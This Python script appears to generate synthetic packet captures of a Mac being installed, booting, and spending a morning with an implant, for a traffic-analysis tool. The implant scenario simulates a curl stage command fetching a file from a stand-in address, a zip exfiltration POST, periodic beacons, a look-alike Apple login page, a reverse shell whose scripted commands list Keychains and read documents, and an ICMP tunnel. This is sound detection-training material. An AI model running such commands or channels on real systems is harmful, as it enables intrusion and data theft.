"""Three stories: a Mac is installed, a Mac boots for the first time, and a Mac's morning with an implant in it.

The first two follow the proportions that Johannes Ullrich wrote down for macOS 10.15 (SANS Internet Storm Center,
14 October 2019). The third is invented; what is bad in it is listed in README.md.
"""
import base64
import random
import struct

import tls
import wire
from mac import MacBook
from talk import Tcp
from wire import Timeline

MB = 1000 * 1000
CUT = "Made by examples/make_samples.py of lunette: synthetic. Long streams are cut to their headers, true lengths kept."


def shares(rng, total, count):
    """`total` bytes in `count` uneven parts."""
    weights = [rng.lognormvariate(0, 0.8) for _ in range(count)]
    parts = [int(total * weight / sum(weights)) for weight in weights]
    parts[-1] += total - sum(parts)
    return parts


def der(tag, *parts):
    """One DER value; `parts` are its contents."""
    body = b"".join(parts)
    size = bytes((len(body),)) if len(body) < 128 else b"\x82" + struct.pack(">H", len(body))
    return bytes((tag,)) + size + body


def ocsp_response(rng, day):
    """A good answer in the shape of RFC 6960, with random bytes where the hashes and the signature are."""
    when = der(0x18, day.encode() + b"060000Z")
    sha1 = der(0x30, bytes.fromhex("06052b0e03021a0500"))
    rsa = der(0x30, bytes.fromhex("06092a864886f70d01010b0500"))
    certificate = der(0x30, sha1, der(4, rng.randbytes(20)), der(4, rng.randbytes(20)), der(2, b"\1" + rng.randbytes(7)))
    single = der(0x30, certificate, b"\x80\0", when, der(0xA0, when))
    data = der(0x30, der(0xA2, der(4, rng.randbytes(20))), when, der(0x30, single))
    basic = der(0x30, data, rsa, der(3, b"\0" + rng.randbytes(256)))
    kind = bytes.fromhex("06092b0601050507300101")
    return der(0x30, b"\x0a\1\0", der(0xA0, der(0x30, kind, der(4, basic))))


def ocsp(mac, at):
    path = base64.b64encode(mac.rng.randbytes(78)).decode().replace("/", "%2F").replace("+", "%2B")
    request = (f"GET /ocsp03-apple{mac.rng.randrange(1, 9)}/{path} HTTP/1.1\r\nHost: ocsp.apple.com\r\nAccept: */*\r\n"
               "Accept-Language: en-us\r\nConnection: keep-alive\r\nAccept-Encoding: gzip, deflate\r\n"
               f"User-Agent: com.apple.trustd/{'3.0' if mac.modern else '2.0'}\r\n\r\n").encode()
    body = ocsp_response(mac.rng, "20240611" if mac.modern else "20191011")
    head = ("HTTP/1.1 200 OK\r\nServer: ATS/9.2.3\r\nContent-Type: application/ocsp-response\r\n"
            f"Content-Length: {len(body)}\r\nCache-Control: max-age=3600\r\n\r\n").encode()
    return mac.http(at, "ocsp.apple.com", request, head, body, keep=(2000, 2000))


def captive_probe(mac, at):
    agent = "CaptiveNetworkSupport-390.60.1 wispr" if not mac.modern else "CaptiveNetworkSupport-481.100.4 wispr"
    request = (f"GET /hotspot-detect.html HTTP/1.0\r\nHost: captive.apple.com\r\nConnection: close\r\n"
               f"User-Agent: {agent}\r\n\r\n").encode()
    body = b"<HTML><HEAD><TITLE>Success</TITLE></HEAD><BODY>Success</BODY></HTML>"
    head = ("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode()
    return mac.http(at, "captive.apple.com", request, head, body, keep=(2000, 2000))


def dictionary(mac, at, name, size):
    request = (f"GET /2019/mobileassets/061-{mac.rng.randrange(10000, 99999)}/com_apple_MobileAsset_Dictionary/"
               f"{name}.zip HTTP/1.1\r\nHost: updates-http.cdn-apple.com\r\nAccept: */*\r\n"
               "Accept-Language: en-us\r\nConnection: keep-alive\r\nAccept-Encoding: identity\r\n"
               "User-Agent: MobileAsset/1.1\r\n\r\n").encode()
    head = ("HTTP/1.1 200 OK\r\nServer: ATS/8.0.6\r\nContent-Type: application/zip\r\n"
            f"Content-Length: {size}\r\nAccept-Ranges: bytes\r\n\r\n").encode()
    return mac.http(at, "updates-http.cdn-apple.com", request, head, b"PK\3\4" + mac.rng.randbytes(size - 4),
                    keep=(2000, len(head) + 64))


def courier(mac, at, until):
    """Apple's push service: one connection on 5223 that stays up; pushes when they come, a ping when it is quiet."""
    mac.https(at, "init.push.apple.com", 5200)
    talk = mac.tls_open(at + 0.4, "21-courier.push.apple.com", 5223, alpn=("apns-security-v3", "apns-pack-v1"))
    talk.client_says(tls.sealed(mac.rng, 1820)).server_says(tls.sealed(mac.rng, 60))
    while talk.at < until:
        talk.wait(mac.rng.expovariate(1 / 420) + 3)
        if talk.at >= until:
            break
        if mac.rng.random() < 0.8:
            talk.server_says(tls.sealed(mac.rng, mac.rng.randrange(180, 1300)))
            talk.client_says(tls.sealed(mac.rng, 42))
        else:
            talk.client_says(tls.sealed(mac.rng, 5)).server_says(tls.sealed(mac.rng, 5))


def install(path):
    """macOS 10.15 is installed: Apple's names only."""
    rng = random.Random(1015)
    line = Timeline(1570802400)  # 2019-10-11 14:00:00 UTC
    mac = MacBook(line, rng, "10.10.3.115", "f0:18:98:5e:21:07", "Catalinas-MacBook-Pro", "10.15")
    at = mac.join(1.0)
    at = mac.set_clock(at + 0.5)
    for _ in range(3):
        at = mac.https(at + rng.random(), "albert.apple.com", rng.randrange(9000, 16000), up=3900)
        at = ocsp(mac, at + 0.2)
    at = mac.https(at + 0.5, "www.apple.com", 1300)  # /library/test/success.html
    mac.https(at + 1, "mesu.apple.com", 310000)
    at += 4
    for size in shares(rng, 42 * MB, 18):
        at = mac.https(at + rng.random() * 6, "swscan.apple.com", size, requests=2)
    begin = at
    for i, size in enumerate(shares(rng, 23 * MB, 206)):
        mac.https(begin + i * 1.9 + rng.random(), "gspe21-ssl.ls.apple.com", size, alpn=("h2", "http/1.1"),
                  keep=(540, 140))
    for i, name in enumerate(("en-oxford", "en-thesaurus", "de-duden", "es-vox", "fr-multi", "it-garzanti", "ja-daiji")):
        dictionary(mac, begin + 40 + 31 * i, name, rng.randrange(150000, 420000))
    return line.write(path, "en0", CUT)


SAFARI_ICONS = ("www.yelp.com", "www.yahoo.com", "www.weather.com", "www.tripadvisor.com", "www.linkedin.com",
                "www.facebook.com", "www.bing.com", "www.twitter.com")


def first_boot(path):
    """macOS 10.15 boots for the first time; after three minutes Safari is started."""
    rng = random.Random(1016)
    line = Timeline(1570806900)  # 2019-10-11 15:15:00 UTC
    first_boot_of(MacBook(line, rng, "10.10.3.115", "f0:18:98:5e:21:07", "Catalinas-MacBook-Pro", "10.15"))
    return line.write(path, "en0", CUT)


def first_boot_of(mac):
    """What happens in it, of any Mac (make_altered.py has others)."""
    rng = mac.rng
    at = mac.join(1.0, fresh=False)
    captive_probe(mac, at + 0.1)
    at = mac.set_clock(at + 0.8)
    courier(mac, at + 1, 420)
    for name, size, requests in (
            ("configuration.apple.com", 21000, 1), ("gateway.icloud.com", 48000, 4), ("setup.icloud.com", 30000, 3),
            ("gspe1-ssl.ls.apple.com", 900, 1), ("configuration.ls.apple.com", 6200, 1),
            ("bag.itunes.apple.com", 64000, 1), ("p68-caldav.icloud.com", 18000, 5),
            ("p68-contacts.icloud.com", 15000, 4), ("weather-data.apple.com", 24000, 1),
            ("apple-finance.query.yahoo.com", 14500, 2), ("xp.apple.com", 700, 2), ("mesu.apple.com", 410000, 2),
            ("swscan.apple.com", 1900000, 3), ("www.apple.com", 1300, 1)):
        at = mac.https(at + 0.5 + rng.random() * 4, name, size, requests=requests)
        if rng.random() < 0.4:
            ocsp(mac, at - 0.3)
    safari = 180.0
    mac.https(safari, "api.smoot.apple.com", 5400)
    mac.https(safari + 0.3, "www.apple.com", 380000, requests=6)
    for i, name in enumerate(SAFARI_ICONS):
        mac.https(safari + 0.6 + i * 0.07, name, rng.randrange(9000, 60000), requests=2)
    mac.set_clock(300)


# ------------------------------------------------------------------- a morning
SITES = (("www.bbc.co.uk", "ichef.bbci.co.uk"), ("www.theguardian.com", "i.guim.co.uk"),
         ("en.wikipedia.org", "upload.wikimedia.org"), ("github.com", "github.githubassets.com"),
         ("github.com", "avatars.githubusercontent.com"), ("www.google.com", "fonts.gstatic.com"),
         ("stackoverflow.com", "cdn.sstatic.net"), ("www.bahn.de", "www.deutschebahn.com"),
         ("www.openstreetmap.org", "tile.openstreetmap.org"), ("docs.python.org",), ("duckduckgo.com",),
         ("www.linkedin.com",))
BACKGROUND = (("gateway.icloud.com", 34, 4000, 60000), ("p68-caldav.icloud.com", 17, 1500, 9000),
              ("p68-contacts.icloud.com", 6, 1500, 6000), ("weather-data.apple.com", 12, 8000, 24000),
              ("apple-finance.query.yahoo.com", 12, 3000, 9000), ("xp.apple.com", 20, 300, 900),
              ("gsp-ssl.ls.apple.com", 9, 900, 5000), ("gspe1-ssl.ls.apple.com", 3, 700, 1200),
              ("api.smoot.apple.com", 18, 1500, 9000), ("bag.itunes.apple.com", 3, 30000, 64000),
              ("gdmf.apple.com", 1, 90000, 100000), ("mesu.apple.com", 3, 30000, 200000),
              ("configuration.apple.com", 2, 9000, 21000))
HOURS = 6 * 3600


def page(mac, at, names_of_site):
    """One page in Safari: a connection for the page, some more for what it shows."""
    rng = mac.rng
    mac.https(at, names_of_site[0], int(rng.lognormvariate(10.6, 0.7)), requests=rng.randrange(1, 4))
    for _ in range(rng.randrange(0, 4)):
        mac.https(at + 0.15 + rng.random() * 0.6, names_of_site[-1], int(rng.lognormvariate(10.2, 0.9)),
                  requests=rng.randrange(1, 5))


def browsing(mac):
    """Sittings of some pages each, minutes apart, seconds of reading between the pages."""
    rng, at = mac.rng, 240.0
    while at < HOURS - 120:
        site = rng.choice(SITES)
        for _ in range(rng.randrange(1, 7)):
            yield at, lambda at, site=site: page(mac, at, site)
            at += 4 + rng.lognormvariate(3.2, 0.9)
            if rng.random() < 0.5:
                site = rng.choice(SITES)
        at += 60 + rng.expovariate(1 / 700)


def mail(mac, at):
    """Mail waits on one IMAP connection and is told of new messages."""
    talk = mac.tls_open(at, "p68-imap.mail.me.com", 993, alpn=())
    for _ in range(5):
        talk.client_says(tls.sealed(mac.rng, 60)).server_says(tls.sealed(mac.rng, 300))
    while talk.at < HOURS - 200:
        talk.wait(20 + mac.rng.expovariate(1 / 500))
        talk.server_says(tls.sealed(mac.rng, 40)).client_says(tls.sealed(mac.rng, 30))
        talk.server_says(tls.sealed(mac.rng, int(mac.rng.lognormvariate(9, 1))), 0.03)


def ping(mac, at, target, count):
    """The system's ping: sequence from 0, seconds and microseconds first, then each byte its own index."""
    identifier, host = mac.rng.randrange(1 << 16), mac.server(target)
    for sequence in range(count):
        sent = at + sequence * 1.001
        stamp = struct.pack(">II", int(mac.line.start + sent), int(sent % 1 * 1e6))
        echo(mac, sent, host, identifier, sequence, stamp + bytes(range(8, 56)), None)


def echo(mac, at, host, identifier, sequence, data, reply):
    packet = wire.ipv4(mac.ip, host.ip, 1, wire.icmp_echo(8, identifier, sequence, data), 64,
                       mac.rng.randrange(1, 1 << 16), dont_fragment=False)
    mac.line.add(at, mac.frame(packet, True))
    answer = wire.icmp_echo(0, identifier, sequence, data if reply is None else reply)
    packet = wire.ipv4(host.ip, mac.ip, 1, answer, host.ttl, mac.rng.randrange(1, 1 << 16), dont_fragment=False)
    mac.line.add(at + host.rtt, mac.frame(packet, False))


# -------------------------------------------------------------------- the harm
STAGE = b"""#!/bin/zsh
# sample text, does nothing
curl -s -o /tmp/.helper http://198.51.100.204/helper
"""


def stage(mac, at):
    """A line pasted into Terminal fetches a script from an address, in clear."""
    talk = Tcp(mac, at, mac.server("198.51.100.204"), 80, keep=(2000, 2000)).open()
    talk.client_says(b"GET /install.sh HTTP/1.1\r\nHost: 198.51.100.204\r\nUser-Agent: curl/8.6.0\r\nAccept: */*\r\n\r\n")
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: {len(STAGE)}\r\n\r\n".encode()
    talk.server_says(head + STAGE, 0.02).close()


def steal(mac, at):
    """A zip goes out by curl, in clear, to an address: large request, reply of two bytes."""
    talk = Tcp(mac, at, mac.server("198.51.100.204"), 80, keep=(1500, 2000)).open()
    edge = b"------------------------" + mac.rng.randbytes(11).hex().encode()
    part = (b"--" + edge + b"\r\nContent-Disposition: form-data; name=\"file\"; filename=\"out.zip\"\r\n"
            b"Content-Type: application/zip\r\n\r\n")
    body = part + b"PK\3\4\x14\0\0\0\x08\0" + mac.rng.randbytes(2600000) + b"\r\n--" + edge + b"--\r\n"
    head = (f"POST /joinsystem HTTP/1.1\r\nHost: 198.51.100.204\r\nUser-Agent: curl/8.6.0\r\nAccept: */*\r\n"
            f"user: anna\r\nBuildID: sample\r\nContent-Length: {len(body)}\r\n"
            f"Content-Type: multipart/form-data; boundary={edge.decode()}\r\nExpect: 100-continue\r\n\r\n").encode()
    talk.client_says(head).server_says(b"HTTP/1.1 100 Continue\r\n\r\n")
    talk.client_says(body)
    talk.server_says(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok", 0.2).close()


def beacon(mac, at, count):
    """One call of an implant: Go's TLS stack, a small request, a small reply; now and then a task and its result."""
    task = count % 37 == 11
    mac.https(at, "stats.orbital-metrics.example", 6200 if task else mac.rng.randrange(88, 140),
              up=2900 if count % 37 == 12 else mac.rng.randrange(180, 260), stack="go", alpn=(), keep=(300, 140))


def beacons(mac, begin):
    """Every 60 s, give or take 30 %."""
    at, count = begin, 0
    while at < HOURS - 5:
        yield at, lambda at, count=count: beacon(mac, at, count)
        at, count = at + 60 * mac.rng.uniform(0.7, 1.3), count + 1


def look_alike(mac, at):
    """A page that calls itself Apple's: looked at, then a form is sent."""
    name = "login.apple.com.account-verify.example"
    mac.https(at, name, 41000, requests=2)
    mac.https(at + 0.4, name, 210000, requests=5)
    mac.https(at + 48, name, 900, up=2200)


SHELL = (("whoami", "anna"), ("id", "uid=501(anna) gid=20(staff) groups=20(staff),12(everyone),80(admin)"),
         ("uname -a", "Darwin Annas-MacBook-Pro.local 23.5.0 Darwin Kernel Version 23.5.0: arm64"),
         ("sw_vers", "ProductName:\t\tmacOS\nProductVersion:\t\t14.5\nBuildVersion:\t\t23F79"),
         ("ls ~/Library/Keychains", "login.keychain-db\nmetadata.keychain-db"), ("pwd", "/Users/anna"),
         ("ls Documents", "invoices\nnotes.txt\nplans-2024.numbers"), ("cat Documents/notes.txt", "call the dentist"),
         ("networksetup -listallnetworkservices", "Wi-Fi\nThunderbolt Bridge"), ("w", "14:20  up 3 days, 1 user"),
         ("ps -ax | grep -i sense", ""), ("ls /Applications | head", "Calendar.app\nChess.app\nContacts.app"),
         ("history | tail", ""), ("date", "Tue Jun 11 12:21:40 CEST 2024"))


def shell(mac, at):
    """A reverse shell in clear: the Mac opens, the far end types."""
    talk = Tcp(mac, at, mac.server("203.0.113.66"), 4444, keep=(1 << 20, 1 << 20)).open()
    talk.client_says(b"bash: no job control in this shell\nbash-3.2$ ")
    for command, output in SHELL:
        talk.server_says(command.encode() + b"\n", think=2 + mac.rng.lognormvariate(2.3, 0.8))
        talk.wait(0.02 + mac.rng.random() * 0.06)
        talk.client_says((output + "\n" if output else "").encode() + b"bash-3.2$ ")
    talk.server_says(b"exit\n", think=9)
    talk.client_says(b"exit\n").close()


def icmp_tunnel(mac, at):
    """Echo requests that carry a stream: a thousand bytes each, replies that are no echo."""
    host, identifier = mac.server("198.51.100.77"), 0x7A31
    for sequence in range(160):
        echo(mac, at, host, identifier, sequence, mac.rng.randbytes(mac.rng.randrange(900, 1100)),
             mac.rng.randbytes(mac.rng.randrange(64, 300)))
        at += 0.09 + mac.rng.random() * 0.12


def morning(path):
    """Six hours of a MacBook at home, macOS 14.5, harm from 08:39 on. Times below are seconds after 07:58 UTC."""
    rng = random.Random(1014)
    line = Timeline(1718092680)  # 2024-06-11 07:58:00 UTC
    mac = MacBook(line, rng, "192.168.7.23", "a4:83:e7:30:5b:c2", "Annas-MacBook-Pro", "14.5")
    todo = [(1.0, lambda at: mac.join(at)), (2.2, lambda at: captive_probe(mac, at)),
            (6.0, lambda at: courier(mac, at, HOURS - 60)), (9.0, lambda at: mail(mac, at)),
            (30.0, lambda at: mac.https(at, "swscan.apple.com", 1900000, requests=3)),
            (5200.0, lambda at: ping(mac, at, "17.253.27.209", 5)), (12000.0, lambda at: ping(mac, at, mac.router, 4))]
    todo += [(3.0 + hour * 3600, lambda at: mac.set_clock(at)) for hour in range(6)]
    todo += [(rng.uniform(20, HOURS - 60), lambda at: ocsp(mac, at)) for _ in range(9)]
    for name, times, least, most in BACKGROUND:
        for _ in range(times):
            size = rng.randrange(least, most)
            todo.append((rng.uniform(12, HOURS - 60), lambda at, name=name, size=size:
                         mac.https(at, name, size, requests=1 + size // 20000)))
    todo += list(browsing(mac))
    todo += [(2482.0, lambda at: stage(mac, at)), (2655.0, lambda at: steal(mac, at)),
             (4210.0, lambda at: look_alike(mac, at)), (8220.0, lambda at: shell(mac, at)),
             (16900.0, lambda at: icmp_tunnel(mac, at))]
    todo += list(beacons(mac, 2590.0))
    for at, what in sorted(todo, key=lambda item: item[0]):
        what(at)
    return line.write(path, "en0", CUT)


STORIES = {"mac-install": install, "mac-first-boot": first_boot, "mac-with-implant": morning}
